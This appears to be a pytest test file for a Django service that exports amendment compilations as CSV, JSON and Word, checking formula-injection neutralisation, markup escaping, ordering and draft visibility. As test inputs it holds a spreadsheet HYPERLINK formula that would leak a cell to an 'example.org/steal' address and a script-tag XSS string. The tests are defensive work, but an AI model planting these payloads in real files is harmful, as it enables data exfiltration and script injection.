"""The compilation of amendments: /amendments/compilation/<edition>.<docx|csv|json>.

The writers alone (formula injection in CSV, XML-unsafe text in Word), then the view:
each format's content, number order, what is visible to whom, 404s, and a query count
that does not grow with the amendments.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import docx
import pytest

from amendments import services
from amendments.compilation import (
    CompilationEdition,
    CompilationRow,
    CompilationSupport,
    neutralise_cell,
    to_csv,
    to_docx,
)
from amendments.models import Amendment, AmendmentSupport
from guidelines.models import Edition
from tests.amendments.conftest import TEXT, open_window

pytestmark = pytest.mark.django_db

S = Amendment.Status
SCRIPT = "<script>alert(1)</script> Parties share their data."
HYPERLINK = '=HYPERLINK("https://example.org/steal?x="&A1,"Click")'
COLUMNS = [
    "number",
    "clause_number",
    "clause_eid",
    "operation",
    "insert_position",
    "base_text",
    "proposed_text",
    "adopted_text",
    "justification",
    "proposer",
    "cosponsors",
    "supports",
    "status",
    "recommendation",
    "recommended_outcome",
]


def url(slug: str = "revision-draft", fmt: str = "csv") -> str:
    return f"/amendments/compilation/{slug}.{fmt}"


def csv_rows(response) -> list[dict[str, str]]:
    data = response.content
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def word(response):
    return docx.Document(io.BytesIO(response.content))


def table_texts(document) -> list[list[str]]:
    (table,) = document.tables
    return [[cell.text for cell in row.cells] for row in table.rows]


@pytest.fixture
def tabled(file_amendment):
    """File and submit an amendment (numbered A-n in submission order)."""

    def make(user, **kwargs) -> Amendment:
        amendment = file_amendment(user=user, **kwargs)
        return services.amendment_submit(
            amendment=amendment, user=user, expected_version=amendment.version
        )

    return make


@pytest.fixture
def compiled(
    tabled,
    file_amendment,
    ngo_user,
    other_ngo_user,
    secretariat_user,
    delegate_user,
    other_delegate_user,
):
    """A-1 adopted as amended with a co-sponsor, supports and a recommendation; A-2 an
    insertion with markup in its text; A-3 a deletion, withdrawn; two drafts."""
    first = tabled(ngo_user, justification="Diversity is the Convention's word.")
    services.amendment_cosign(amendment=first, user=other_ngo_user)
    services.amendment_support(
        amendment=first, user=delegate_user, stance=AmendmentSupport.Stance.SUPPORT
    )
    services.amendment_support(
        amendment=first, user=other_delegate_user, stance=AmendmentSupport.Stance.OPPOSE
    )
    first = services.amendment_screen(
        amendment=first, user=secretariat_user, admissible=True, reason=""
    )
    first = services.amendment_recommend(
        amendment=first,
        user=secretariat_user,
        recommendation="Keep the Convention's wording.",
        outcome=Amendment.Outcome.ADOPTED_AS_AMENDED,
    )
    first = services.amendment_decide(
        amendment=first,
        user=secretariat_user,
        outcome=Amendment.Outcome.ADOPTED_AS_AMENDED,
        adopted_text="Parties value diversity.",
        reason="Decision 19.IGC 7",
    )
    second = tabled(
        other_ngo_user,
        eid="para_2",
        operation=Amendment.Operation.INSERT,
        insert_position=Amendment.InsertPosition.AFTER,
        proposed_text=SCRIPT,
        justification="",
    )
    third = tabled(ngo_user, eid="para_3", operation=Amendment.Operation.DELETE)
    third = services.amendment_withdraw(
        amendment=third, user=ngo_user, expected_version=third.version, reason="Superseded."
    )
    file_amendment(user=ngo_user, proposed_text="Our own draft, unsubmitted.")
    file_amendment(user=other_ngo_user, proposed_text="Their draft, private.")
    return first, second, third


# --- neutralise_cell ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        HYPERLINK,
        "+33 1 45 68 10 00",
        "-2+3",
        "- a bullet: a legitimate text is quoted too",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "hyperlink", "plus", "minus", "bullet", "at", "tab", "carriage-return"],
)
def test_a_cell_starting_with_a_formula_trigger_is_quoted(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Parties recognise the diversity of cultural expressions.",
        "A-1",
        "1 + 1 = 2, says the paper",
        "a well-known e-mail: someone@example.org",
        "one\ttab and\r\nline breaks later",
        " =a leading space is not a formula",
        "'already quoted",
    ],
)
def test_ordinary_text_is_left_as_it_is(value):
    assert neutralise_cell(value) == value


def row(**overrides) -> CompilationRow:
    fields = {
        "number": "A-1",
        "clause_number": "1",
        "clause_eid": "para_1",
        "operation": "replace",
        "insert_position": "",
        "base_text": "Base.",
        "proposed_text": "Proposed.",
        "adopted_text": "",
        "justification": "Because.",
        "proposer": "Test Coalition",
        "status": "submitted",
        "recommendation": "",
        "recommended_outcome": "",
    }
    return CompilationRow(**{**fields, **overrides})


def test_the_csv_writer_neutralises_every_cell_even_texts_the_services_would_trim():
    # The services trim white space, but rows can come from elsewhere (the admin, an
    # import): the writer does not rely on it.
    rows = [
        row(proposed_text="\tindented", justification="\r=1+1"),
        row(proposer="=Evil Org", cosponsors=("-Minus", "Plain")),
        row(supports=(CompilationSupport("@Org", "support"),)),
    ]
    first, second, third = list(csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig"))))
    assert (first["proposed_text"], first["justification"]) == ("'\tindented", "'\r=1+1")
    assert (second["proposer"], second["cosponsors"]) == ("'=Evil Org", "'-Minus; Plain")
    assert third["supports"] == "'@Org: support"


def test_the_word_writer_drops_characters_xml_cannot_hold():
    edition = CompilationEdition("e", "E", "en", "draft", "complete")
    document = docx.Document(
        io.BytesIO(to_docx(edition, [row(justification="bell\x07 and form\x0cfeed")]))
    )
    assert table_texts(document)[1][4] == "bell and formfeed"


# --- the view: content of each format ----------------------------------------------------


def test_the_csv_download_defeats_formula_injection(client, tabled, ngo_user):
    tabled(ngo_user, proposed_text="+1 more Party", justification=HYPERLINK)
    tabled(ngo_user, proposed_text="@SUM(A1:A9)")
    tabled(ngo_user, proposed_text="- a bullet")
    tab = tabled(ngo_user, proposed_text="tab")
    carriage = tabled(ngo_user, proposed_text="carriage return")
    # The services trim white space; an edit in the admin or an import need not.
    Amendment.objects.filter(pk=tab.pk).update(proposed_text="\t=1+1")
    Amendment.objects.filter(pk=carriage.pk).update(proposed_text="\r=1+1")
    rows = csv_rows(client.get(url()))
    assert rows[0]["justification"] == "'" + HYPERLINK
    assert [r["proposed_text"] for r in rows] == [
        "'+1 more Party",
        "'@SUM(A1:A9)",
        "'- a bullet",
        "'\t=1+1",
        "'\r=1+1",
    ]
    # Only the CSV is for spreadsheets: JSON keeps the texts as they are.
    payload = json.loads(client.get(url(fmt="json")).content)
    assert payload["amendments"][0]["justification"] == HYPERLINK
    assert payload["amendments"][3]["proposed_text"] == "\t=1+1"


def test_csv_holds_the_numbered_amendments_in_number_order(client, compiled):
    response = client.get(url(fmt="csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="amendments-revision-draft.csv"'
    first, second, third = csv_rows(response)
    assert first == {
        "number": "A-1",
        "clause_number": "1",
        "clause_eid": "para_1",
        "operation": "replace",
        "insert_position": "",
        "base_text": "Parties recognise the diversité of cultural expressions.",
        "proposed_text": "Parties cherish diversity.",
        "adopted_text": "Parties value diversity.",
        "justification": "Diversity is the Convention's word.",
        "proposer": "Test Coalition",
        "cosponsors": "Other Federation",
        "supports": "Otherland: oppose; Testland: support",
        "status": "adopted_as_amended",
        "recommendation": "Keep the Convention's wording.",
        "recommended_outcome": "adopted_as_amended",
    }
    assert (second["number"], second["operation"], second["insert_position"]) == (
        "A-2",
        "insert",
        "after",
    )
    assert (second["clause_eid"], second["proposer"]) == ("para_2", "Other Federation")
    assert second["proposed_text"] == SCRIPT
    assert (third["number"], third["operation"], third["status"]) == ("A-3", "delete", "withdrawn")
    assert third["proposed_text"] == ""


def test_json_holds_the_edition_and_the_amendments(client, compiled):
    Edition.objects.filter(slug="revision-draft").update(completeness="partial")
    response = client.get(url(fmt="json"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    payload = json.loads(response.content)
    assert payload["edition"] == {
        "slug": "revision-draft",
        "label": "Revision Draft",
        "language": "en",
        "status": "draft",
        "completeness": "partial",
    }
    first, second, third = payload["amendments"]
    assert list(first) == COLUMNS
    assert first["cosponsors"] == ["Other Federation"]
    assert first["supports"] == [
        {"organisation": "Otherland", "stance": "oppose"},
        {"organisation": "Testland", "stance": "support"},
    ]
    assert (first["status"], first["adopted_text"]) == (
        "adopted_as_amended",
        "Parties value diversity.",
    )
    assert (second["number"], second["proposed_text"], second["cosponsors"]) == ("A-2", SCRIPT, [])
    assert (third["number"], third["status"], third["supports"]) == ("A-3", "withdrawn", [])


def test_word_has_the_title_the_edition_status_and_a_table(client, compiled):
    Edition.objects.filter(slug="revision-draft").update(completeness="partial")
    response = client.get(url(fmt="docx"))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    document = word(response)
    title, edition, partial = (p.text for p in document.paragraphs[:3])
    assert title == "Compilation of amendments — Revision Draft"
    assert document.paragraphs[0].style.name == "Title"
    assert edition == "Edition: Revision Draft (revision-draft). Status: draft."
    assert partial.startswith("Partial edition")
    (table,) = document.tables
    header, *rows = table_texts(document)
    assert header == [
        "No.",
        "Clause",
        "Operation",
        "Proposed text",
        "Justification",
        "Proposer and co-sponsors",
        "Status and recommendation",
    ]
    # A real heading row: Word repeats it on each page and reads it as column headings.
    assert table.rows[0]._tr.xpath("./w:trPr/w:tblHeader")
    assert all(run.bold for cell in table.rows[0].cells for run in cell.paragraphs[0].runs)
    assert table.style.name == "Table Grid"
    # Landscape A4, the texts' columns the widest.
    page = document.sections[0]
    assert page.page_width > page.page_height
    widths = [cell.width for cell in table.rows[1].cells]
    assert max(widths) == widths[3]
    assert [r[0] for r in rows] == ["A-1", "A-2", "A-3"]
    assert rows[0][1:] == [
        "1 (para_1)",
        "replace the text",
        "Parties cherish diversity.",
        "Diversity is the Convention's word.",
        "Proposed by: Test Coalition\nCo-sponsors: Other Federation\n"
        "Supported by: Testland\nOpposed by: Otherland",
        "adopted as amended\nAdopted text: Parties value diversity.\n"
        "Recommendation: adopt as amended — Keep the Convention's wording.",
    ]
    assert rows[1][2] == "insert a new clause (after the clause)"
    assert rows[2][2:4] == ["delete the clause", ""]
    assert rows[2][6] == "withdrawn"
    # Nobody's name: the document's properties name the product, not a person.
    assert document.core_properties.author == "Redraft"


def test_word_writes_markup_as_text(client, compiled):
    response = client.get(url(fmt="docx"))
    assert table_texts(word(response))[2][3] == SCRIPT
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("word/document.xml").decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml
    assert "<script>" not in xml


def test_a_complete_edition_without_amendments_says_so(client, edition):
    document = word(client.get(url(fmt="docx")))
    assert document.paragraphs[2].text == "Complete edition."
    assert table_texts(document) == [table_texts(document)[0]]
    assert document.paragraphs[-1].text == "No amendment has been submitted to this edition."
    assert csv_rows(client.get(url(fmt="csv"))) == []
    assert json.loads(client.get(url(fmt="json")).content)["amendments"] == []


def test_exports_name_organisations_never_users(client, compiled):
    for fmt in ("csv", "json"):
        text = client.get(url(fmt=fmt)).content.decode("utf-8-sig")
        assert "Other Federation" in text
        # The users who filed, co-signed, supported and decided (see the fixtures).
        for username in ("other-ngo", "other-delegate", "delegate", "secretariat"):
            assert username not in text


# --- order -------------------------------------------------------------------------------


def test_rows_follow_the_numbers_not_the_filing(client, file_amendment, ngo_user):
    drafts = [file_amendment(proposed_text=f"Text {i}.") for i in range(3)]
    for draft in reversed(drafts):
        services.amendment_submit(amendment=draft, user=ngo_user, expected_version=draft.version)
    rows = csv_rows(client.get(url()))
    assert [(r["number"], r["proposed_text"]) for r in rows] == [
        ("A-1", "Text 2."),
        ("A-2", "Text 1."),
        ("A-3", "Text 0."),
    ]


# --- visibility --------------------------------------------------------------------------


@pytest.mark.parametrize("who", [None, "ngo_user", "other_ngo_user", "secretariat_user"])
def test_drafts_are_never_compiled_not_even_ones_own(client, request, compiled, who):
    if who is not None:
        client.force_login(request.getfixturevalue(who))
    rows = csv_rows(client.get(url()))
    assert [r["number"] for r in rows] == ["A-1", "A-2", "A-3"]
    texts = {r["proposed_text"] for r in rows}
    assert not texts & {"Our own draft, unsubmitted.", "Their draft, private."}
    payload = json.loads(client.get(url(fmt="json")).content)
    assert [a["number"] for a in payload["amendments"]] == ["A-1", "A-2", "A-3"]
    document = client.get(url(fmt="docx")).content
    assert b"draft, private" not in zipfile.ZipFile(io.BytesIO(document)).read("word/document.xml")


def test_amendments_of_other_editions_are_left_out(client, tabled, ngo_user, make_edition):
    other = make_edition(TEXT, slug="other-draft")
    open_window(other)
    tabled(ngo_user, edition=other, proposed_text="On the other edition.")
    tabled(ngo_user, proposed_text="On this edition.")
    assert [r["proposed_text"] for r in csv_rows(client.get(url()))] == ["On this edition."]


# --- 404s --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        url(slug="no-such-edition"),
        url(fmt="xlsx"),
        url(fmt="pdf"),
        url(fmt="csv.json"),
        "/amendments/compilation/revision-draft",
        "/amendments/compilation/revision-draft.csv/",
    ],
)
def test_unknown_edition_or_format_is_404(client, edition, path):
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("fmt", ["docx", "csv", "json"])
def test_an_unpublished_edition_is_404_for_the_public_only(
    client, make_edition, secretariat_user, ngo_user, fmt
):
    make_edition("1. Secret text.", slug="unpublished", published=False)
    assert client.get(url(slug="unpublished", fmt=fmt)).status_code == 404
    client.force_login(ngo_user)
    assert client.get(url(slug="unpublished", fmt=fmt)).status_code == 404
    client.force_login(secretariat_user)
    assert client.get(url(slug="unpublished", fmt=fmt)).status_code == 200


def test_the_compilation_is_read_only(client, edition):
    assert client.post(url()).status_code == 405


# --- queries -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["docx", "csv", "json"])
def test_queries_do_not_grow_with_the_amendments(
    client,
    django_assert_num_queries,
    tabled,
    ngo_user,
    other_ngo_user,
    delegate_user,
    fmt,
):
    def table(count: int) -> None:
        for _ in range(count):
            amendment = tabled(ngo_user)
            services.amendment_cosign(amendment=amendment, user=other_ngo_user)
            services.amendment_support(
                amendment=amendment, user=delegate_user, stance=AmendmentSupport.Stance.SUPPORT
            )

    # The edition; the amendments with their clause and proposer; co-sponsors; supports.
    table(3)
    with django_assert_num_queries(4):
        assert client.get(url(fmt=fmt)).status_code == 200
    table(17)
    with django_assert_num_queries(4):
        response = client.get(url(fmt=fmt))
    assert response.status_code == 200
    numbers = [f"A-{n}" for n in range(1, 21)]  # A-10 after A-9, not after A-1
    if fmt == "csv":
        assert [r["number"] for r in csv_rows(response)] == numbers
    elif fmt == "json":
        assert [a["number"] for a in json.loads(response.content)["amendments"]] == numbers
    else:
        assert [r[0] for r in table_texts(word(response))[1:]] == numbers


# --- the link from the list --------------------------------------------------------------


def test_the_list_links_the_compilation_when_an_edition_is_chosen(client, edition):
    page = client.get("/amendments/?edition=revision-draft").content.decode()
    for fmt in ("docx", "csv", "json"):
        assert f'href="{url(fmt=fmt)}"' in page
    for unfiltered in ("/amendments/", "/amendments/?status=submitted"):
        assert "/amendments/compilation/" not in client.get(unfiltered).content.decode()
